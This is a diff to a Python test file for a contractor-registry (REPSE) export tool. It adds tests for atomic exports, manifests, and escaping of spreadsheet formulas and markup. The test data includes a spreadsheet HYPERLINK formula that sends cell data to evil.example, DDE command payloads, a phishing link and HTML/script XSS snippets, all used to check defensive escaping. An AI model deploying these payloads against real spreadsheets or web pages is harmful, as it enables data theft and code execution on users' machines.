@@ -4,6 +4,9 @@ from __future__ import annotations
 
 import csv
 import io
+import signal
+import subprocess
+import sys
 from datetime import date
 
 import pytest
@@ -12,7 +15,7 @@ from openpyxl import load_workbook
 from repse.core import inputs as inp
 from repse.core.api import Repositorio
 from repse.core.exports import exportar
-from repse.core.views import contratistas
+from repse.core.vista import Vista
 
 from .test_engine import acto, at, opiniones, padron
 
@@ -51,8 +54,8 @@ def read_csv(path) -> list[list[str]]:
 
 @pytest.mark.parametrize("ronda", [1, 2, 3, "diaria"])
 def test_exports_are_deterministic_and_pinned(repo, tmp_path, snapshot, ronda):
-    first = exportar(repo.engine, "2026-1", tmp_path / "a", ronda=ronda)
-    second = exportar(repo.engine, "2026-1", tmp_path / "b", ronda=ronda)
+    first = exportar(repo.vista(), "2026-1", tmp_path / "a", ronda=ronda)
+    second = exportar(repo.vista(), "2026-1", tmp_path / "b", ronda=ronda)
     assert [p.read_bytes() for p in first] == [p.read_bytes() for p in second]
     text = []
     for path in first:
@@ -67,17 +70,18 @@ def test_exports_are_deterministic_and_pinned(repo, tmp_path, snapshot, ronda):
 
 
 def test_the_exported_lists_match_the_states_the_engine_reports(repo, tmp_path):
-    exportar(repo.engine, "2026-1", tmp_path, ronda=3)
+    exportar(repo.vista(), "2026-1", tmp_path / "salidas", ronda=3)
     listed = {row[0] for name in ("negativa", "sin_opinion")
-              for row in read_csv(tmp_path / f"listado_ronda3_{name}.csv")[1:]}
-    states = contratistas(repo.engine)
+              for row in read_csv(tmp_path / "salidas" / f"listado_ronda3_{name}.csv")[1:]}
+    states = repo.vista().contratistas()
     after_round_3 = {rfc for rfc, s in states.items()
                      if s.estado in ("por_cancelar", "cancelado", "cancelacion_suspendida")}
     assert listed == after_round_3 == {RFCS[1], RFCS[4]}
 
 
 def test_letters_carry_the_notification_date_given(repo, tmp_path):
-    files = exportar(repo.engine, "2026-1", tmp_path, ronda=1, notificacion=date(2026, 1, 28))
+    files = exportar(repo.vista(), "2026-1", tmp_path / "salidas", ronda=1,
+                     notificacion=date(2026, 1, 28))
     letter = next(p for p in files if p.name == f"exhorto_{RFCS[3]}.md").read_text()
     assert "CAÑ8801014Y9" in letter
     assert "surte efectos el\n**28 de enero de 2026**" in letter
@@ -86,8 +90,145 @@ def test_letters_carry_the_notification_date_given(repo, tmp_path):
 
 
 def test_the_round_in_course_is_the_latest_with_lists(repo, tmp_path):
-    from repse.core.exports import ronda_en_curso
+    assert repo.vista().ronda_en_curso("2026-1") == "diaria"  # a cancellation was impeded
+    past = Vista(repo.en_instante(at("2026-03-04T00:00:00")), congelado=True)
+    assert past.ronda_en_curso("2026-1") == 2
 
-    assert ronda_en_curso(repo.engine, "2026-1") == "diaria"  # a cancellation was impeded
-    past = repo.en_instante(at("2026-03-04T00:00:00"))
-    assert ronda_en_curso(past, "2026-1") == 2
+
+# --- Atomic exports with a manifest (issue 10, point 5) ---------------------------------------
+def contents(folder) -> dict[str, bytes]:
+    return {str(p.relative_to(folder)): p.read_bytes()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def test_a_re_export_replaces_the_folder_and_keeps_no_stale_file(repo, tmp_path):
+    destino = tmp_path / "salidas" / "2026-1"
+    exportar(repo.vista(), "2026-1", destino, ronda=1)
+    assert (destino / "exhortos").is_dir()
+    files = exportar(repo.vista(), "2026-1", destino, ronda=2)
+    # The round-1 letters are gone: the folder holds exactly the round-2 export.
+    assert set(contents(destino)) == {str(p.relative_to(destino)) for p in files} | {
+        "manifiesto.json"}
+    assert sorted(p.name for p in (tmp_path / "salidas").iterdir()) == ["2026-1"]
+
+
+def test_an_interrupted_export_leaves_the_previous_folder_intact(repo, tmp_path):
+    destino = tmp_path / "salidas" / "2026-1"
+    exportar(repo.vista(), "2026-1", destino, ronda=2)
+    before = contents(destino)
+
+    def killed(done, total):
+        raise KeyboardInterrupt  # the operator stops it while the letters are written
+
+    with pytest.raises(KeyboardInterrupt):
+        exportar(repo.vista(), "2026-1", destino, ronda=1, progreso=killed)
+    assert contents(destino) == before
+    assert sorted(p.name for p in (tmp_path / "salidas").iterdir()) == ["2026-1"]
+
+
+@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs SIGKILL")
+def test_a_killed_export_leaves_the_previous_folder_and_the_next_one_cleans_up(repo, tmp_path):
+    destino = tmp_path / "salidas" / "2026-1"
+    exportar(repo.vista(), "2026-1", destino, ronda=2)
+    before = contents(destino)
+    repo.cerrar()
+    # Another process exports round 1 and is killed while it writes the letters.
+    script = (
+        "import os, signal, sys\n"
+        "from repse.core.api import Repositorio\n"
+        "from repse.core.exports import exportar\n"
+        "repo = Repositorio.abrir(sys.argv[1])\n"
+        "exportar(repo.vista(), '2026-1', sys.argv[2], ronda=1,\n"
+        "         progreso=lambda done, total: os.kill(os.getpid(), signal.SIGKILL))\n")
+    done = subprocess.run([sys.executable, "-c", script, str(tmp_path / "x.db"), str(destino)],
+                          check=False)
+    assert done.returncode == -signal.SIGKILL
+    assert contents(destino) == before
+    [resto] = [p for p in (tmp_path / "salidas").iterdir() if p != destino]
+    assert resto.name.startswith(".2026-1.exportando-")
+    again = Repositorio.abrir(tmp_path / "x.db")
+    exportar(again.vista(), "2026-1", destino, ronda=1)
+    again.cerrar()
+    assert sorted(p.name for p in (tmp_path / "salidas").iterdir()) == ["2026-1"]
+
+
+def test_the_manifest_lists_every_file_its_hash_and_the_log_anchor(repo, tmp_path):
+    import hashlib
+    import json
+
+    destino = tmp_path / "salidas"
+    files = exportar(repo.vista(), "2026-1", destino, ronda=3)
+    manifiesto = json.loads((destino / "manifiesto.json").read_text())
+    numero, digest = repo.store.last()
+    assert manifiesto["ancla"] == {"numero": numero, "hash": digest}
+    assert (manifiesto["ciclo"], manifiesto["ronda"]) == ("2026-1", 3)
+    listed = {a["ruta"]: a for a in manifiesto["archivos"]}
+    assert set(listed) == {str(p.relative_to(destino)) for p in files}
+    for p in files:
+        data = p.read_bytes()
+        entry = listed[str(p.relative_to(destino))]
+        assert (entry["bytes"], entry["sha256"]) == (len(data), hashlib.sha256(data).hexdigest())
+    # Rows per list: B (negativa) and E (sin opinión) reached round 3.
+    assert listed["listado_ronda3_negativa.csv"]["filas"] == 1
+    assert listed["listado_ronda3_sin_opinion.xlsx"]["filas"] == 1
+
+
+def test_a_folder_that_is_not_an_export_is_never_replaced(repo, tmp_path):
+    from repse.core.exports import ExportError
+
+    (tmp_path / "notas.txt").write_text("mías")
+    with pytest.raises(ExportError, match="no es una exportación"):
+        exportar(repo.vista(), "2026-1", tmp_path, ronda=2)
+    assert (tmp_path / "notas.txt").read_text() == "mías" and (tmp_path / "x.db").exists()
+
+
+# --- Formula and markup injection (issue 10, point 7) -----------------------------------------
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Ver expediente")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "=1+1", "\t=1+1", "\r=1+1"]
+
+
+def test_no_exported_cell_is_a_formula():
+    from repse.core.exports import csv_bytes, xlsx_bytes
+
+    rows = [(f"XAXX0{k}", name) for k, name in enumerate(FORMULAS)]
+    text = csv_bytes(("RFC", "Razón social"), rows).decode("utf-8").lstrip("\ufeff")
+    cells = [row[1] for row in csv.reader(io.StringIO(text))][1:]
+    # OWASP: a cell that starts with = + - @ TAB or CR is prefixed with a single quote.
+    assert cells == ["'" + name for name in FORMULAS]
+    book = load_workbook(io.BytesIO(xlsx_bytes("Negativa", ("RFC", "Razón social"), rows)))
+    got = [(c.value, c.data_type) for (c,) in book.active.iter_rows(min_row=2, min_col=2)]
+    assert [t for _, t in got] == ["s"] * len(FORMULAS)  # text, never a formula
+    assert [v for v, _ in got] == [name.replace("\r", "\n") for name in FORMULAS]  # XML: CR→LF
+
+
+ATAQUE = ("ACME**\n\n# AVISO: su registro ya fue CANCELADO\n\nPague en [este enlace]"
+          "(http://evil.example/pago) <img src=x onerror=alert(1)></p><script>x()</script>"
+          "\r\n| XAXX010101000 | FALSO | 1 |\u2028## falso\u202e")
+
+
+def markup_free(document: str, known_headings: set[str]) -> None:
+    lines = document.splitlines()
+    assert {ln for ln in lines if ln.startswith("#")} <= known_headings
+    assert not any(ln.startswith("| XAXX010101000") for ln in lines)
+    assert "[este enlace](" not in document and "<script" not in document
+    assert "<img" not in document and "\u202e" not in document and "\u2028" not in document
+
+
+def test_letters_and_the_oficio_escape_what_an_input_brings(repo):
+    from repse.core.cycle import Ciclo
+    from repse.core.exports import carta_exhorto, oficio_tercera
+    from repse.core.vista import Exhortado, Listado
+
+    ciclo = Ciclo.parse("2026-1")
+    carta = carta_exhorto(repo.vista(), ciclo, Exhortado(
+        "XAXX010101AB1", ATAQUE, "F\n1", "x@y.mx\n## Sección", "Calle 1\n\n## Sección falsa",
+        "negativa"), date(2026, 1, 28))
+    markup_free(carta, {"# Exhorto de cumplimiento de obligaciones en materia de seguridad "
+                        "social"})
+    assert "Calle 1 ## Sección falsa\\" in carta.splitlines()  # one line, not a heading
+    oficio = oficio_tercera(ciclo, [Listado(3, "negativa", date(2026, 3, 11),
+                                            [("XAXX010101AB1", ATAQUE, "F|1")])])
+    markup_free(oficio, {"# Oficio: listado de contratistas para cancelación del registro REPSE",
+                         "## Opinión «Negativa» (1)"})
+    [row] = [ln for ln in oficio.splitlines() if ln.startswith("| XAXX010101AB1")]
+    assert row.count("|") - row.count("\\|") == 4  # one table row of three cells
